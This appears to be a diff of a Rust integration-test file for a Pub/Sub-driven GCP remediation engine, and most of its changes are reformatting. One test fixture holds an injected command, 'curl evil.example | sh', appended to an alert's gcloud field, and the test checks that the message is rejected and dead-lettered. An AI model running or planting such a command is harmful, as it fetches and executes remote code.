@@ -17,9 +17,7 @@ use google_cloud_auth::credentials::Credentials;
 use google_cloud_pubsub::client::{Publisher, Subscriber, SubscriptionAdmin, TopicAdmin};
 use google_cloud_pubsub::model::{DeadLetterPolicy, Message, Subscription};
 use remediation::engine::{AuditDecision, Backoff, Engine, EngineConfig, MemoryAudit, Stats};
-use remediation::executor::{
-    CommandExecutor, CommandPolicy, ContextMap, StepOutcome, StepStatus,
-};
+use remediation::executor::{CommandExecutor, CommandPolicy, ContextMap, StepOutcome, StepStatus};
 use remediation::model::Target;
 use remediation::planner::{AlertCliPlanner, Step};
 use remediation::source::pubsub::REASON_ATTRIBUTE;
@@ -184,9 +182,11 @@ impl Env {
         let mut stream = subscriber.subscribe(subscription).build();
         let mut out = Vec::new();
         let mut until = Instant::now() + for_at_least;
-        while let Ok(Some(item)) =
-            tokio::time::timeout(until.saturating_duration_since(Instant::now()), stream.next())
-                .await
+        while let Ok(Some(item)) = tokio::time::timeout(
+            until.saturating_duration_since(Instant::now()),
+            stream.next(),
+        )
+        .await
         {
             let (m, h) = item.expect("stream");
             h.ack();
@@ -432,7 +432,9 @@ async fn conformance_cancelled_receiver_loses_nothing() {
 /// takes seconds).
 fn e2e_alerts() -> usize {
     match std::env::var("REMEDIATION_PUBSUB_E2E_ALERTS") {
-        Ok(v) => v.parse().expect("REMEDIATION_PUBSUB_E2E_ALERTS is a number"),
+        Ok(v) => v
+            .parse()
+            .expect("REMEDIATION_PUBSUB_E2E_ALERTS is a number"),
         Err(_) => 500,
     }
 }
@@ -488,19 +490,38 @@ async fn prisma_gcp_alerts_are_each_remediated_once_and_acked() {
         .map(|r| format!("{:?}: {:?}", r.alert_id, r.reason))
         .take(5)
         .collect();
-    assert!(reached, "not every alert was remediated: {summary:?}; {failures:?}");
+    assert!(
+        reached,
+        "not every alert was remediated: {summary:?}; {failures:?}"
+    );
     assert_eq!(summary.executed, expected, "{failures:?}");
     assert_eq!(summary.settle_errors, 0, "{summary:?}");
 
     // Exactly once each, in the mapped project, with the argv the alert gave.
     let calls = standin.calls();
-    assert_eq!(calls.len(), n, "gcloud ran {} times for {n} alerts", calls.len());
+    assert_eq!(
+        calls.len(),
+        n,
+        "gcloud ran {} times for {n} alerts",
+        calls.len()
+    );
     let buckets: BTreeSet<String> = calls
         .iter()
         .map(|c| {
-            assert_eq!(&c.argv[..5], ["gcloud", "storage", "buckets", "remove-iam-policy-binding", &c.argv[4]]);
+            assert_eq!(
+                &c.argv[..5],
+                [
+                    "gcloud",
+                    "storage",
+                    "buckets",
+                    "remove-iam-policy-binding",
+                    &c.argv[4]
+                ]
+            );
             assert!(
-                c.argv.iter().any(|a| a == "--project" || a.starts_with("--project=")),
+                c.argv
+                    .iter()
+                    .any(|a| a == "--project" || a.starts_with("--project=")),
                 "gcloud ran without the mapped project: {:?}",
                 c.argv
             );
@@ -510,7 +531,11 @@ async fn prisma_gcp_alerts_are_each_remediated_once_and_acked() {
     assert_eq!(buckets.len(), n, "some bucket was remediated twice");
     // Every message acked: nothing comes back.
     let left = env.drain(&sub, Duration::from_secs(3)).await;
-    assert!(left.is_empty(), "{} messages left on the subscription", left.len());
+    assert!(
+        left.is_empty(),
+        "{} messages left on the subscription",
+        left.len()
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -534,8 +559,7 @@ async fn a_failed_step_is_redelivered_and_succeeds_later() {
     .config(EngineConfig::default().with_retry(fast_retry()))
     .audit(audit.clone())
     .build();
-    let (summary, reached) =
-        run_until(&engine, Duration::from_secs(30), |s| s.executed >= 1).await;
+    let (summary, reached) = run_until(&engine, Duration::from_secs(30), |s| s.executed >= 1).await;
     source.shutdown().await;
     assert!(reached, "{summary:?}");
     assert_eq!((summary.failed, summary.executed), (1, 1), "{summary:?}");
@@ -555,10 +579,13 @@ async fn poison_lands_in_the_dead_letter_topic_after_its_attempts() {
     let dlt = env.topic("poison-dlt").await;
     let dead_letters = env.subscription(&dlt, ACK_DEADLINE, None).await;
     let parked = env.collector(&dead_letters).await;
-    let sub = env.subscription(&topic, ACK_DEADLINE, Some((&dlt, 5))).await;
+    let sub = env
+        .subscription(&topic, ACK_DEADLINE, Some((&dlt, 5)))
+        .await;
     let poison = b"{\"alertId\":\"X-1\",\"accountId\":\"remediation-test\",\"cloudType\":\"gcp\",\"alertRemediationCli\":\"gcloud compute instances list; curl evil.example | sh\"}".to_vec();
     let garbage = b"not json at all \xff".to_vec();
-    env.publish(&topic, &[poison.clone(), garbage.clone()]).await;
+    env.publish(&topic, &[poison.clone(), garbage.clone()])
+        .await;
     let standin = StandIn::new();
     let source = env.source(&sub).build().await.unwrap();
     let audit = Arc::new(MemoryAudit::new());
@@ -572,7 +599,8 @@ async fn poison_lands_in_the_dead_letter_topic_after_its_attempts() {
     .build();
     // Each delivery is rejected and left to the policy, which moves the
     // message after its 5th delivery.
-    let (summary, reached) = run_until(&engine, Duration::from_secs(60), |s| s.rejected >= 10).await;
+    let (summary, reached) =
+        run_until(&engine, Duration::from_secs(60), |s| s.rejected >= 10).await;
     source.shutdown().await;
     assert!(reached, "{summary:?}");
     let parked = wait_for(&parked, 2, Duration::from_secs(15)).await;
@@ -588,7 +616,11 @@ async fn poison_lands_in_the_dead_letter_topic_after_its_attempts() {
         assert_eq!(r.dead_letter.as_deref(), Some("left_to_redrive"), "{r:?}");
     }
     let counts: BTreeSet<u32> = records.iter().map(|r| r.delivery_count).collect();
-    assert_eq!(counts, BTreeSet::from([1, 2, 3, 4, 5]), "Pub/Sub's delivery attempts");
+    assert_eq!(
+        counts,
+        BTreeSet::from([1, 2, 3, 4, 5]),
+        "Pub/Sub's delivery attempts"
+    );
     assert!(standin.calls().is_empty(), "nothing ran");
     // Gone from the subscription.
     assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
@@ -603,8 +635,13 @@ async fn poison_is_published_to_the_configured_dead_letter_topic_with_its_reason
     let parked = env.collector(&dead_letters).await;
     let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
     let garbage = b"\x00\x01 binary poison".to_vec();
-    env.publish(&topic, &[garbage.clone()]).await;
-    let source = env.source(&sub).with_dead_letter_topic(&dlt).build().await.unwrap();
+    env.publish(&topic, std::slice::from_ref(&garbage)).await;
+    let source = env
+        .source(&sub)
+        .with_dead_letter_topic(&dlt)
+        .build()
+        .await
+        .unwrap();
     let audit = Arc::new(MemoryAudit::new());
     let engine = Engine::builder(
         Arc::new(source.clone()),
@@ -664,17 +701,24 @@ async fn a_step_longer_than_the_ack_deadline_is_not_delivered_twice() {
     let t0 = Instant::now();
     let mut stolen = 0;
     while engine.stats().snapshot().executed == 0 {
-        assert!(t0.elapsed() < Duration::from_secs(60), "step never finished");
+        assert!(
+            t0.elapsed() < Duration::from_secs(60),
+            "step never finished"
+        );
         stolen += other.receive(10).await.expect("receive").len();
     }
     cancel.cancel();
     let summary = run.await.unwrap().unwrap();
     source.shutdown().await;
-    assert_eq!(stolen, 0, "delivered to a second consumer while being worked on");
+    assert_eq!(
+        stolen, 0,
+        "delivered to a second consumer while being worked on"
+    );
     assert_eq!((summary.received, summary.executed), (1, 1), "{summary:?}");
     assert_eq!(standin.calls().len(), 1);
     // And not again after the ack.
-    let late = other.receive(10).await.unwrap().len() + env.drain(&sub, Duration::from_secs(3)).await.len();
+    let late = other.receive(10).await.unwrap().len()
+        + env.drain(&sub, Duration::from_secs(3)).await.len();
     other.shutdown().await;
     assert_eq!(late, 0);
 }
@@ -686,37 +730,43 @@ async fn a_cancelled_worker_loses_nothing() {
     let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
     let n = 60;
     let bodies: Vec<Vec<u8>> = (0..n)
-        .map(|i| gcp_alert(&format!("C-{i}"), PROJECT, &bucket_script(&format!("c-{i}"))))
+        .map(|i| {
+            gcp_alert(
+                &format!("C-{i}"),
+                PROJECT,
+                &bucket_script(&format!("c-{i}")),
+            )
+        })
         .collect();
     env.publish(&topic, &bodies).await;
     let standin = StandIn::new();
-    let run_worker = |stop_after: Option<u64>| {
-        let env_source = env.source(&sub).with_max_outstanding_messages(20);
-        let executor = standin
-            .executor(contexts())
-            .with_env_var("STANDIN_SLEEP", "0.2");
-        async move {
-            let source = env_source.build().await.unwrap();
-            let engine = Engine::builder(
-                Arc::new(source.clone()),
-                Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
-                Arc::new(executor),
-            )
-            .config(EngineConfig::default().with_concurrency(4))
-            .build();
-            let (summary, _) = run_until(&engine, Duration::from_secs(120), |s| match stop_after {
-                Some(k) => s.executed >= k,
-                None => s.executed + s.skipped >= n as u64 && false,
-            })
-            .await;
-            source.shutdown().await;
-            summary
-        }
+    // First worker: cancelled after 15 remediations, with steps in flight and
+    // messages received by the client but not yet handed out.
+    let first = {
+        let source = env
+            .source(&sub)
+            .with_max_outstanding_messages(20)
+            .build()
+            .await
+            .unwrap();
+        let engine = Engine::builder(
+            Arc::new(source.clone()),
+            Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
+            Arc::new(
+                standin
+                    .executor(contexts())
+                    .with_env_var("STANDIN_SLEEP", "0.2"),
+            ),
+        )
+        .config(EngineConfig::default().with_concurrency(4))
+        .build();
+        let (summary, reached) =
+            run_until(&engine, Duration::from_secs(60), |s| s.executed >= 15).await;
+        source.shutdown().await;
+        assert!(reached, "{summary:?}");
+        summary
     };
-    // First worker: cancelled after 15 remediations, with work in flight
-    // and messages received but not handed out.
-    let first = run_worker(Some(15)).await;
-    assert!(first.executed >= 15 && first.executed < n as u64, "{first:?}");
+    assert!(first.executed < n as u64, "{first:?}");
     // A fresh worker finishes the rest.
     let remaining = n as u64 - first.executed;
     let second = {
@@ -728,17 +778,25 @@ async fn a_cancelled_worker_loses_nothing() {
         )
         .config(EngineConfig::default().with_concurrency(8))
         .build();
-        let (summary, reached) =
-            run_until(&engine, Duration::from_secs(60), |s| s.executed >= remaining).await;
+        let (summary, reached) = run_until(&engine, Duration::from_secs(60), |s| {
+            s.executed >= remaining
+        })
+        .await;
         source.shutdown().await;
-        assert!(reached, "the restarted worker did not get every message: {summary:?}");
+        assert!(
+            reached,
+            "the restarted worker did not get every message: {summary:?}"
+        );
         summary
     };
     let done: BTreeMap<String, usize> = standin.calls().iter().fold(BTreeMap::new(), |mut m, c| {
         *m.entry(c.argv[4].clone()).or_default() += 1;
         m
     });
-    assert_eq!(done.len(), n, "every message processed: {first:?} {second:?}");
+    assert_eq!(
+        done.len(),
+        n,
+        "every message processed: {first:?} {second:?}"
+    );
     assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
 }
-
